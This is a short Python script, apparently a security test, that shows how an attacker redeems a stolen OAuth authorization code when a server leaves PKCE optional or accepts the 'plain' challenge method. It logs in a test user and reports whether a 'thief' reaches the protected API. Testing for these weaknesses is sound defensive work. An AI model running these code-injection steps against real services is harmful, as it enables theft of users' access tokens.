"""Ways around PKCE if the server leaves it to the client: no PKCE at all, or a method that hides nothing."""

import secrets
import sys

from browser import Browser, Client

site = sys.argv[1]
ada = Browser(site)
ada.log_in("ada")


def report(who, client, redirect, **fields):
    if "code" not in redirect.parameters:
        print(f"{who}: the request is refused, {redirect.parameters['error']}")
        return
    token = client.ask_for_token("authorization_code", code=redirect.parameters["code"], **fields)
    print(f"{who}: the thief reads {client.call_api(token['access_token']).text.strip()}")


# A website that has a secret and doesn't use PKCE. The thief starts their own login and passes it ada's code; the
# website redeems the code and can't tell that it belongs to another login.
website = Client(site, *ada.create_client())
report("without a challenge", website, ada.allow(website.client_id))

# An app that uses the method `plain`, or no method, which means `plain`: its challenge is the verifier. The thief reads
# it in the URL of the request.
app = Client(site, *ada.create_client("none"))
for who, method in {"with the method plain": {"code_challenge_method": "plain"}, "without a method": {}}.items():
    seen = secrets.token_urlsafe(32)
    redirect = ada.allow(app.client_id, code_challenge=seen, **method)
    report(who, Client(site, app.client_id), redirect, code_verifier=seen)
